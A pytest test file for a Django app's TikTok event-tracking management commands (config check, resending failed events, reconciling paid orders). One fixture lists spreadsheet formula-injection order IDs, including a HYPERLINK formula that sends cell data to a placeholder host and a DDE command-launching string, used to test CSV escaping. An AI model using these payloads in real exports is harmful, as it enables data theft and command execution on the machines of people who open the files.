"""Management commands: tiktok_check, tiktok_resend and tiktok_reconcile."""

import csv
import io
import json
import time
from collections import Counter
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.shop.adapters import ShopOrderAdapter
from tests.shop.models import Order, OrderLine
from tiktok_tracking.client import DELIVERED, PERMANENT, TRANSIENT, Outcome
from tiktok_tracking.management.commands.tiktok_check import build_test_body, verdict
from tiktok_tracking.management.progress import ProgressBar, progress_line
from tiktok_tracking.models import TrackedEvent
from tiktok_tracking.reconcile import PaidOrders, ReconcileLine, reconcile_lines
from tiktok_tracking.resend import ALREADY_QUEUED, NO_PAYLOAD, TOO_OLD, refusal_reason
from tiktok_tracking.sandbox.validation import validate_payload
from tiktok_tracking.spreadsheet import spreadsheet_safe

Status = TrackedEvent.Status
TOKEN = "test-access-token-0123456789"
PIXEL = "CTESTPIXEL0001"


def run(name, *args, **options):
    """``(stdout, stderr)`` of one command run."""
    out, err = io.StringIO(), io.StringIO()
    call_command(name, *args, stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def run_failing(name, *args):
    """``(error message, stdout)`` of a command run that must fail."""
    out = io.StringIO()
    with pytest.raises(CommandError) as info:
        call_command(name, *args, stdout=out, stderr=io.StringIO())
    return str(info.value), out.getvalue()


def tracking(settings, **overrides):
    settings.TIKTOK_TRACKING = {**settings.TIKTOK_TRACKING, **overrides}


# tiktok_check ---------------------------------------------------------------------------------


def test_check_prints_the_settings_with_the_token_masked():
    out, err = run("tiktok_check")
    assert "no problems found" in out
    assert f"PIXEL_ID = '{PIXEL}'" in out
    assert "ACCESS_TOKEN = 'set'" in out
    assert "PAID_ORDERS = 'tests.shop.reports.paid_orders'" in out
    assert TOKEN not in out + err


def test_check_with_a_missing_pixel_id_fails(settings):
    tracking(settings, PIXEL_ID=None)
    message, out = run_failing("tiktok_check")
    assert "1 error(s)" in message
    assert "ERROR tiktok_tracking.E001: TIKTOK_TRACKING['PIXEL_ID'] is not set." in out
    assert "PIXEL_ID = None" in out


def test_check_with_a_missing_pixel_id_sends_no_test_event(settings, sandbox):
    tracking(settings, PIXEL_ID="")
    message, _out = run_failing("tiktok_check", "--send-test-event", "--test-event-code", "T1")
    assert "fix them before sending a test event" in message
    assert sandbox.requests == []


def test_warnings_are_shown_but_do_not_fail(settings):
    tracking(settings, PIXELID="typo")
    out, _err = run("tiktok_check")
    assert "WARNING tiktok_tracking.W001" in out


class QuantityBlindAdapter(ShopOrderAdapter):
    """Sends every line once: an adapter that misses the quantity (the base class, say, on a
    model whose lines keep it under another name)."""

    def line_content(self, line):
        return {**super().line_content(line), "quantity": 1}


def make_order_with_lines(number, total, lines, **fields):
    order = Order.objects.create(number=number, total=Decimal(total), **{"paid": True, **fields})
    for index, (quantity, price) in enumerate(lines):
        OrderLine.objects.create(
            order=order, sku=f"SKU-{index}", name="Mug", quantity=quantity, price=Decimal(price)
        )
    return order


@pytest.mark.django_db
def test_check_reads_recent_orders_and_passes_when_their_lines_add_up():
    make_order_with_lines("R1", "30.00", [(2, "10.00"), (1, "10.00")])
    # Unit prices rounded from a line total: a cent per line is rounding, not a wrong adapter.
    make_order_with_lines("R2", "10.00", [(3, "3.33")])
    out, err = run("tiktok_check")
    assert "no problems found" in out
    assert "W005" not in out
    assert err == ""


@pytest.mark.django_db
def test_check_warns_when_an_adapter_sends_lines_that_do_not_add_up(settings):
    make_order_with_lines("R1", "30.00", [(2, "10.00"), (1, "10.00")])
    make_order_with_lines("R2", "10.00", [(1, "10.00")])
    tracking(settings, ORDER_ADAPTER="tests.test_commands.QuantityBlindAdapter")
    out, _err = run("tiktok_check")  # a warning: the command still succeeds
    assert out.count("WARNING tiktok_tracking.W005") == 1
    assert "Order R1: its contents add up to 20.00 (price x quantity of 2 line(s)), its value " in (
        out
    )
    assert "is 30.00" in out
    assert "no problems found" not in out


@pytest.mark.django_db
def test_check_reads_only_a_few_recent_paid_orders(settings):
    for number in range(8):
        make_order_with_lines(f"R{number}", "30.00", [(3, "10.00")])
    make_order_with_lines("UNPAID", "30.00", [(3, "10.00")], paid=False)
    tracking(settings, ORDER_ADAPTER="tests.test_commands.QuantityBlindAdapter")
    out, _err = run("tiktok_check")
    warned = sorted(
        line.split("Order ")[1].split(":")[0] for line in out.splitlines() if "W005" in line
    )
    assert warned == ["R3", "R4", "R5", "R6", "R7"]


@pytest.mark.django_db
def test_check_without_paid_orders_reads_no_orders(settings):
    make_order_with_lines("R1", "30.00", [(3, "10.00")])
    tracking(settings, ORDER_ADAPTER="tests.test_commands.QuantityBlindAdapter", PAID_ORDERS=None)
    out, _err = run("tiktok_check")
    assert "no problems found" in out


def test_test_event_needs_a_test_code(settings, sandbox):
    tracking(settings, TEST_EVENT_CODE=None)
    message, _out = run_failing("tiktok_check", "--send-test-event")
    assert "TIKTOK_TRACKING['TEST_EVENT_CODE'] is not set" in message
    assert "--test-event-code" in message
    assert sandbox.requests == []


def test_test_event_reaches_the_sandbox_and_its_answer_is_printed(settings, sandbox):
    tracking(settings, TEST_EVENT_CODE="TEST12345")
    out, err = run("tiktok_check", "--send-test-event")
    [request] = sandbox.requests
    assert request["body"]["test_event_code"] == "TEST12345"
    [item] = request["body"]["data"]
    assert item["event"] == "Purchase"
    assert item["event_id"].startswith("order_tiktok-check-")
    assert item["properties"]["order_id"] == item["event_id"].removeprefix("order_")
    assert set(item["user"]) == {"external_id", "user_agent"}
    assert f"request_id: {request['request_id']}" in out
    assert "HTTP status: 200" in out
    assert "code: 0" in out
    assert "Verdict: delivered" in out
    assert item["event_id"] in out
    assert TOKEN not in out + err


def test_test_event_code_option_wins_over_the_setting(settings, sandbox):
    tracking(settings, TEST_EVENT_CODE="FROM_SETTINGS")
    run("tiktok_check", "--send-test-event", "--test-event-code", "FROM_OPTION")
    assert sandbox.requests[0]["body"]["test_event_code"] == "FROM_OPTION"


def test_a_wrong_token_fails_with_tiktok_s_reason(settings, sandbox):
    tracking(settings, ACCESS_TOKEN="revoked-token-000000")
    message, out = run_failing("tiktok_check", "--send-test-event", "--test-event-code", "T1")
    assert "rejected: Access token is invalid. (code 40001)" in message
    assert "check ACCESS_TOKEN and PIXEL_ID" in message
    assert "code: 40001" in out
    assert f"request_id: {sandbox.requests[0]['request_id']}" in out
    assert "revoked-token-000000" not in message + out


def test_a_programmed_40001_fails(sandbox):
    sandbox.program([{"code": 40001, "message": "No permission to operate pixel code."}])
    message, out = run_failing("tiktok_check", "--send-test-event", "--test-event-code", "T1")
    assert "rejected: No permission to operate pixel code. (code 40001)" in message
    assert "Verdict: rejected" in out


def test_an_answer_echoing_the_token_is_printed_without_it(sandbox):
    sandbox.program([{"code": 40001, "message": f"Token {TOKEN} is invalid." + "!" * 5000}])
    message, out = run_failing("tiktok_check", "--send-test-event", "--test-event-code", "T1")
    assert "Token (secret) is invalid." in out
    assert TOKEN not in message + out
    assert len(message) < 2000


def test_a_server_error_is_reported_as_transient(sandbox):
    sandbox.program([{"status": 503}])
    message, out = run_failing("tiktok_check", "--send-test-event", "--test-event-code", "T1")
    assert message.startswith("The test event was not accepted: transient:")
    assert "HTTP status: 503" in out


def test_the_test_body_is_valid_for_tiktok():
    now = timezone.now()
    body, event_id = build_test_body(PIXEL, "T1", now=now, event_name="Purchase")
    assert validate_payload(body, now=time.time()).ok
    assert event_id == f"order_tiktok-check-{now:%Y%m%d%H%M%S}"
    assert body["test_event_code"] == "T1"
    assert body["data"][0]["properties"]["value"] == 1.0


@pytest.mark.parametrize(
    "outcome, expected",
    [
        (Outcome(DELIVERED, 200, 0, "OK", "r1"), "delivered: TikTok accepted"),
        (
            Outcome(PERMANENT, 200, 40002, "data.0.event: bad", "r2"),
            "rejected: data.0.event: bad (code 40002)",
        ),
        (Outcome(TRANSIENT, None, None, "Timed out after 2.0s"), "transient: Timed out after"),
        (Outcome(TRANSIENT, 503, None, "busy"), "transient: busy (HTTP 503)"),
    ],
)
def test_verdict(outcome, expected):
    assert verdict(outcome).startswith(expected)


# tiktok_resend --------------------------------------------------------------------------------


def make_event(order_id, status=Status.FAILED, *, code=40001, age=None, payload=True, **fields):
    """One purchase row; ``age`` (a timedelta) backdates its event and record time."""
    now = timezone.now()
    moment = now - (age or timedelta())
    row = TrackedEvent.objects.create(
        pixel_id=fields.pop("pixel_id", PIXEL),
        event=fields.pop("event", "Purchase"),
        event_id=fields.pop("event_id", f"order_{order_id}"),
        order_id=order_id,
        status=status,
        payload={"event": "Purchase", "event_id": f"order_{order_id}"} if payload else {},
        event_time=moment,
        last_code=code,
        last_message="No permission" if code == 40001 else "",
        claim_token=fields.pop("claim_token", ""),
        **fields,
    )
    if age:
        TrackedEvent.objects.filter(pk=row.pk).update(created_at=moment)
    return row


def statuses():
    return dict(TrackedEvent.objects.values_list("order_id", "status"))


@pytest.fixture
def outbox(db):
    make_event("a")  # failed, 40001, fresh: resent
    make_event("b", code=40002)
    make_event("c", Status.DELIVERED, code=0)
    make_event("old", age=timedelta(hours=49))
    make_event("empty", payload=False)
    make_event("queued", Status.PENDING)


@pytest.mark.django_db
def test_resend_requeues_only_matching_rows(outbox, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        out, err = run("tiktok_resend", "--code", "40001")
    assert statuses() == {
        "a": Status.PENDING,
        "b": Status.FAILED,
        "c": Status.DELIVERED,
        "old": Status.FAILED,
        "empty": Status.FAILED,
        "queued": Status.PENDING,
    }
    requeued = TrackedEvent.objects.get(order_id="a")
    assert requeued.event_id == "order_a"
    assert requeued.test_event_code == ""
    assert requeued.next_attempt_at <= timezone.now()
    assert "Matched 3 event(s)." in out
    assert "Requeued 1 event(s) with their own event_ids." in out
    assert "Refused 2:" in out
    assert "1 older than 48 h: TikTok would count it twice" in out
    assert "1 no payload (invalid order data)" in out
    assert len(callbacks) == 1
    # stderr is no terminal here: no progress bar unless asked for.
    assert err == ""


@pytest.mark.django_db
def test_resend_lists_refused_event_ids_at_verbosity_2(outbox):
    out, _err = run("tiktok_resend", verbosity=2)
    assert "not resent: order_old (older than 48 h" in out
    assert "not resent: order_empty (no payload" in out


@pytest.mark.django_db
def test_resend_dry_run_changes_nothing(outbox):
    before = list(TrackedEvent.objects.order_by("pk").values())
    out, _err = run("tiktok_resend", "--dry-run")
    assert list(TrackedEvent.objects.order_by("pk").values()) == before
    assert "Matched 4 event(s)." in out
    assert "Would requeue 2 event(s)" in out


@pytest.mark.django_db
@pytest.mark.parametrize(
    "args, matched, requeued",
    [
        ((), 5, {"a", "b", "d"}),
        (("--status", "delivered"), 3, {"c", "f", "p"}),
        (("--code", "40002"), 1, {"b"}),
        (("--order-id", "b", "--order-id", "c", "--order-id", "old"), 2, {"b"}),
        (("--status", "delivered", "--event", "InitiateCheckout"), 1, {"f"}),
        (("--status", "delivered", "--pixel", "OTHERPIXEL"), 1, {"p"}),
        (("--days", "1"), 4, {"a", "b", "d"}),
        (("--since", "{day_ago}", "--until", "{hour_ago}"), 1, {"d"}),
        (("--until", "{hour_ago}"), 2, {"d"}),
    ],
)
def test_resend_filters(outbox, args, matched, requeued):
    make_event("d", age=timedelta(hours=10))
    make_event("f", Status.DELIVERED, event="InitiateCheckout", event_id="order_f_initiatecheckout")
    make_event("p", Status.DELIVERED, pixel_id="OTHERPIXEL")
    now = timezone.now()
    moments = {
        "day_ago": (now - timedelta(days=1)).isoformat(),
        "hour_ago": (now - timedelta(hours=1)).isoformat(),
    }
    before = statuses()
    out, _err = run("tiktok_resend", *[arg.format(**moments) for arg in args])
    after = statuses()
    changed = {order for order in after if after[order] != before[order]}
    assert changed == requeued
    assert {after[order] for order in changed} == {Status.PENDING}
    assert f"Matched {matched} event(s)." in out


@pytest.mark.django_db
def test_resend_with_a_test_event_code(outbox):
    run("tiktok_resend", "--order-id", "a", "--test-event-code", "TEST77")
    assert TrackedEvent.objects.get(order_id="a").test_event_code == "TEST77"


@pytest.mark.django_db
def test_resend_draws_a_progress_bar_in_chunks(db):
    for i in range(5):
        make_event(f"n{i}")
    out, err = run("tiktok_resend", "--progress", "--chunk-size", "2")
    assert "Requeued 5 event(s)" in out
    frames = err.split("\r")
    assert [frame.split("] ")[1].strip() for frame in frames if frame] == [
        "2/5 (40%)",
        "4/5 (80%)",
        "5/5 (100%)",
    ]
    assert err.endswith("\n")
    assert set(statuses().values()) == {Status.PENDING}


@pytest.mark.django_db
def test_resend_progress_can_be_silenced_or_forced(outbox):
    out, err = run("tiktok_resend", "--dry-run", "--no-progress")
    assert "Would requeue 2 event(s)" in out
    assert err == ""
    assert run("tiktok_resend", "--dry-run", verbosity=0) == ("", "")
    _out, err = run("tiktok_resend", "--dry-run", "--progress")
    assert err == f"\rDry run [{'#' * 30}] 4/4 (100%)\n"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "args, message",
    [
        (("--days", "3", "--since", "2025-01-01"), "Use --days or --since, not both."),
        (("--since", "yesterday"), "--since 'yesterday' is not an ISO date"),
        (("--since", "2025-02-01", "--until", "2025-01-01"), "--since must be before --until."),
        (("--days", "0"), "--days must be at least 1."),
    ],
)
def test_resend_refuses_bad_filters(args, message):
    assert run_failing("tiktok_resend", *args)[0].startswith(message)


def test_refusal_reason():
    now = timezone.now()
    assert refusal_reason(Status.FAILED, now, True, now) is None
    assert refusal_reason(Status.DELIVERED, now - timedelta(hours=47), True, now) is None
    assert refusal_reason(Status.FAILED, now - timedelta(hours=49), True, now) == TOO_OLD
    assert refusal_reason(Status.SENDING, now, True, now) == ALREADY_QUEUED
    assert refusal_reason(Status.FAILED, now, False, now) == NO_PAYLOAD


def test_progress_line_and_bar():
    assert progress_line(1, 4, label="x", width=8) == "x [##......] 1/4 (25%)"
    assert progress_line(0, 0, width=4) == "[####] 0/0 (100%)"
    stream = io.StringIO()
    bar = ProgressBar(stream, 2, enabled=False)
    bar.update(1)
    bar.finish()
    assert stream.getvalue() == ""


# tiktok_reconcile -----------------------------------------------------------------------------


def make_paid_order(number, country, *, paid=True, age=None):
    return Order.objects.create(
        number=number,
        country=country,
        total=Decimal("10.00"),
        paid=paid,
        created_at=timezone.now() - (age or timedelta(hours=1)),
    )


@pytest.fixture
def shop(db):
    """Paid orders and recorded purchases in DE, FR, US and an unknown country."""
    for number, country, status in [
        ("DE1", "DE", Status.DELIVERED),
        ("DE2", "DE", Status.SUPPRESSED),
        ("DE3", "DE", None),  # paid, never recorded
        ("US1", "US", Status.DELIVERED),
        ("US2", "US", Status.FAILED),
        ("US3", "US", Status.SENDING),
        ("FR1", "FR", None),
    ]:
        make_paid_order(number, country)
        if status:
            make_event(number, status, country=country, claim_token=number)
    make_paid_order("DE4", "DE", paid=False)
    # Paid before the period, never recorded: not part of a 7-day reconcile.
    make_paid_order("OLD1", "FR", age=timedelta(days=10))
    # A funnel event is not a purchase: FR1 is still missing.
    make_event("FR1", Status.DELIVERED, event="InitiateCheckout", event_id="order_FR1_ic")
    # A purchase of an order the shop did not report (a manual order, say), country unknown.
    make_event("X1", Status.PENDING)
    # Recorded before the period.
    make_event("OLD2", Status.DELIVERED, country="US", age=timedelta(days=10))


EXPECTED = {
    "DE": [3, 2, 1, 0, 1, 0, 1],
    "FR": [1, 0, 0, 0, 0, 0, 1],
    "US": [3, 3, 1, 1, 0, 1, 0],
    "unknown": [0, 1, 0, 0, 0, 1, 0],
    "total": [7, 6, 2, 1, 1, 2, 2],
}


@pytest.mark.django_db
def test_reconcile_table(shop):
    out, err = run("tiktok_reconcile")
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines()[3:] if line[0] != "-"}
    assert rows == {country: [str(n) for n in figures] for country, figures in EXPECTED.items()}
    assert out.splitlines()[1].split() == [
        "country",
        "paid",
        "orders",
        "recorded",
        "delivered",
        "failed",
        "suppressed",
        "pending",
        "missing",
    ]
    assert err == ""


@pytest.mark.django_db
def test_reconcile_csv(shop):
    out, _err = run("tiktok_reconcile", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == [
        "country",
        "paid",
        "recorded",
        "delivered",
        "failed",
        "suppressed",
        "pending",
        "missing",
    ]
    assert {row[0]: [int(n) for n in row[1:]] for row in rows[1:]} == EXPECTED


HOSTILE_ORDER_IDS = [
    # The shop's order numbers fit 32 characters (PostgreSQL enforces it).
    '=HYPERLINK("//e.example/"&A1)',
    "@SUM(A1:A9)",
    "+1+1",
    "-2",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile_orders(db):
    """Paid orders never recorded, whose ids a spreadsheet would read as formulas."""
    for number in HOSTILE_ORDER_IDS:
        make_paid_order(number, "DE")


@pytest.mark.django_db
def test_reconcile_csv_writes_formula_order_ids_as_text(hostile_orders):
    out, _err = run("tiktok_reconcile", "--format", "csv", "--show-missing", "10")
    missing = list(csv.reader(io.StringIO(out.split("\n\n")[1])))
    assert missing[0] == ["order_id", "country"]
    # Each id is written whole, behind the quote a spreadsheet reads as "text".
    assert sorted(row[0] for row in missing[1:]) == sorted(f"'{i}" for i in HOSTILE_ORDER_IDS)
    for row in csv.reader(io.StringIO(out)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


@pytest.mark.django_db
def test_reconcile_json_keeps_formula_order_ids_unchanged(hostile_orders):
    out, _err = run("tiktok_reconcile", "--format", "json", "--show-missing", "10")
    listed = sorted(m["order_id"] for m in json.loads(out)["missing"])
    assert listed == sorted(HOSTILE_ORDER_IDS)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1", "'\0=1"),
        ("DE1", "DE1"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (-7, "'-7"),
    ],
)
def test_spreadsheet_safe_quotes_only_cells_a_spreadsheet_would_evaluate(value, cell):
    assert spreadsheet_safe(value) == cell


@pytest.mark.django_db
def test_reconcile_json(shop):
    out, _err = run("tiktok_reconcile", "--format", "json", "--show-missing", "10")
    report = json.loads(out)
    assert report["paid_orders_known"] is True
    names = ["paid", "recorded", "delivered", "failed", "suppressed", "pending", "missing"]
    countries = {
        line["country"] or "unknown": [line[name] for name in names] for line in report["countries"]
    }
    assert countries == {key: value for key, value in EXPECTED.items() if key != "total"}
    assert [report["totals"][name] for name in names] == EXPECTED["total"]
    assert sorted(report["missing"], key=lambda m: m["order_id"]) == [
        {"order_id": "DE3", "country": "DE"},
        {"order_id": "FR1", "country": "FR"},
    ]
    assert report["unreadable_orders"] == 0


@pytest.mark.django_db
def test_reconcile_lists_missing_orders_up_to_n(shop):
    out, _err = run("tiktok_reconcile", "--show-missing", "5")
    listed = out.split("Paid orders with no purchase recorded (2 of 2 shown):\n")[1]
    assert sorted(line.split() for line in listed.splitlines()) == [["DE3", "DE"], ["FR1", "FR"]]

    out, _err = run("tiktok_reconcile", "--show-missing", "1")
    listed = out.split("Paid orders with no purchase recorded (1 of 2 shown):\n")[1]
    assert len(listed.splitlines()) == 1
    assert listed.split()[0] in {"DE3", "FR1"}

    out, _err = run("tiktok_reconcile", "--format", "csv", "--show-missing", "5")
    missing = out.split("\n\n")[1]
    assert sorted(csv.reader(io.StringIO(missing))) == [
        ["DE3", "DE"],
        ["FR1", "FR"],
        ["order_id", "country"],
    ]


@pytest.mark.django_db
def test_reconcile_period_follows_days(shop):
    out, _err = run("tiktok_reconcile", "--days", "30", "--format", "json", "--show-missing", "9")
    report = json.loads(out)
    assert report["totals"]["paid"] == 8
    assert report["totals"]["recorded"] == 7
    assert {m["order_id"] for m in report["missing"]} == {"DE3", "FR1", "OLD1"}


@pytest.mark.django_db
def test_reconcile_without_paid_orders_says_they_are_unknown(shop, settings):
    tracking(settings, PAID_ORDERS=None)
    out, err = run("tiktok_reconcile")
    assert "Paid orders are unknown" in err
    assert "PAID_ORDERS" in err
    total = next(line for line in out.splitlines() if line.startswith("total"))
    assert total.split() == ["total", "?", "6", "2", "1", "1", "2", "?"]

    out, _err = run("tiktok_reconcile", "--format", "json")
    report = json.loads(out)
    assert report["paid_orders_known"] is False
    assert report["totals"]["paid"] is None
    assert report["totals"]["missing"] is None
    assert report["totals"]["recorded"] == 6


@pytest.mark.django_db
def test_reconcile_with_a_paid_orders_path_that_does_not_import(settings):
    tracking(settings, PAID_ORDERS="tests.shop.reports.no_such_function")
    message, _out = run_failing("tiktok_reconcile")
    assert "TIKTOK_TRACKING['PAID_ORDERS']" in message


@pytest.mark.django_db
def test_reconcile_queries_do_not_grow_with_orders(shop):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            run("tiktok_reconcile", "--format", "json")
        return len(captured)

    few = queries()
    for i in range(60):
        make_paid_order(f"MORE{i}", "IT")
    assert queries() == few


def test_reconcile_lines_are_summed_by_country():
    recorded = {("DE", Status.DELIVERED): 2, ("DE", Status.SENDING): 1, ("", Status.FAILED): 1}
    paid = PaidOrders(by_country=Counter({"DE": 4, "AT": 1}), missing_by_country=Counter(AT=1))
    lines, total = reconcile_lines(recorded, paid)
    assert lines == [
        ReconcileLine("AT", 1, 0, 0, 0, 0, 0, 1),
        ReconcileLine("DE", 4, 3, 2, 0, 0, 1, 0),
        ReconcileLine("", 0, 1, 0, 1, 0, 0, 0),
    ]
    assert total == ReconcileLine(None, 5, 4, 2, 1, 0, 1, 1)
    lines, total = reconcile_lines(recorded, None)
    assert [line.paid for line in lines] == [None, None]
    assert (total.paid, total.missing, total.recorded) == (None, None, 4)
